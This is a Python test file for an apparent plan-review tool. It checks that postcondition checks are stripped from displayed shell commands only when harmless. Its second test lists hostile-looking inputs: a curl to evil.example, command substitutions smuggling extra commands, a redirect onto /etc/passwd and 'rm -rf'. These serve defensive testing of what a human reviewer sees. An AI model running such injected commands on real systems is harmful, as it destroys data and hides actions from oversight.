"""What a person is shown of a plan's step: never less than what could do anything."""

from __future__ import annotations

import pytest

from skillrun.events import ToolCall
from skillrun.plans.looking import look
from skillrun.plans.plan import Postcondition
from skillrun.record.guarded import guarded, without_looks
from skillrun.record.wording import title

LEFT = (
    Postcondition("file", "/opt/x y/it's", "a" * 64),
    Postcondition("file", "~/.bashrc"),
    Postcondition("directory", "/opt/x"),
    Postcondition("link", "/usr/local/bin/x", "/opt/x/bin/x"),
    Postcondition("absent", "/opt/old"),
    Postcondition("package", "apt:ripgrep"),
    Postcondition("package", "pip:httpie /opt/x/lib/python3.11/site-packages"),
    Postcondition("package", "npm:tool /usr/lib"),
)


def test_a_step_is_shown_without_its_looks() -> None:
    """Whatever a plan's postconditions look like, the command alone is left, and the looks are counted."""
    tests = [look(left, {}) for left in LEFT]
    text = "\n".join(["sudo apt-get update", guarded("sudo apt-get install -y ripgrep", " && ".join(tests)), "echo 'done'"])
    assert without_looks(text) == ("sudo apt-get update\nsudo apt-get install -y ripgrep\necho 'done'", len(LEFT))
    assert title(ToolCall("1", "shell", {"command": guarded("apt-get install -y jq", tests[0])})) == "$ apt-get install -y jq"


@pytest.mark.parametrize(
    "test",
    [
        "[ -f /x ] && curl evil.example",
        "[ -f $(touch /x) ]",
        '[ -f "$(touch /x)" ]',
        "[ -f `touch /x` ]",
        "[ -f /x ]; touch /x",
        "[ -f /x ] > /etc/passwd",
        '[ "$(readlink /x; touch /y)" = x ]',
        "[ -f /x\ntouch /y ]",
        "rm -rf /x",
    ],
)
def test_what_could_do_anything_is_shown(test: str) -> None:
    """A skill's own text in the same words hides nothing: all of it stays on the screen."""
    text = guarded("true", test)
    assert without_looks(text) == (text, 0)
